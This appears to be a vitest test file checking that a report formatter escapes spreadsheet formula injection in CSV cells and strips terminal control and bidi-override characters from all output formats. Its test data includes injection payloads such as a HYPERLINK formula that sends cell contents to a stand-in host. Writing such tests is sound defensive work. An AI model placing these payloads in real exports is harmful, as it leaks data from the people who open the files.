import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { formats } from '../../reports/format.ts';

const result = (...values: string[]) => ({
  columns: [{ name: 'value', type: 'varchar' }],
  rows: values.map((value) => ({ value })),
});
const cells = (text: string) =>
  parse(text)
    .slice(1)
    .map(([value]) => value);

test.for([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://example.invalid/?"&A2,"x")', `'=HYPERLINK("http://example.invalid/?"&A2,"x")`],
  ['+49 123', "'+49 123"],
  ['-2+3', "'-2+3"],
  ['-', "'-"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "' =1"],
  ['\r=1', "' =1"],
  [' =1', "' =1"],
  ['＝1', "'＝1"],
  ['-5', '-5'],
  ['-5.25', '-5.25'],
  ['+1e9', '+1e9'],
  ['a=1', 'a=1'],
  ['1.0-rc.1', '1.0-rc.1'],
  ["'=1", "'=1"],
])('a cell of CSV is none that a spreadsheet runs: %j is %j', ([value = '', cell]) => {
  expect(cells(formats.csv(result(value)))).toEqual([cell]);
  expect(cells(formats.csv(result(value), true))).toEqual([value]);
});

test('nor is the name of a column, or what follows a semicolon', () => {
  const csv = formats.csv({ columns: [{ name: '=x', type: 'varchar' }], rows: [{ '=x': 'a;=1' }] });
  expect(csv).toBe(`'=x\n"a;=1"`);
});

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not come out
const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

test('no character that acts on a terminal comes out, in any format', () => {
  const text = fc.string({
    unit: fc
      .oneof(fc.integer({ min: 0, max: 0x9f }), fc.integer({ min: 0x2000, max: 0x206f }))
      .map((code) => String.fromCodePoint(code)),
  });
  fc.assert(
    fc.property(text, (value) => {
      for (const format of Object.values(formats)) expect(format(result(value))).not.toMatch(acting);
      expect(JSON.parse(formats.json(result(value)))).toEqual([{ value }]);
    }),
  );
});

test('a cell has one line: a name can make no row of its own', () => {
  expect(formats.table(result('one\ntwo')).split('\n')).toHaveLength(2);
  expect(formats.csv(result('one\ntwo'))).toBe('value\none two');
});
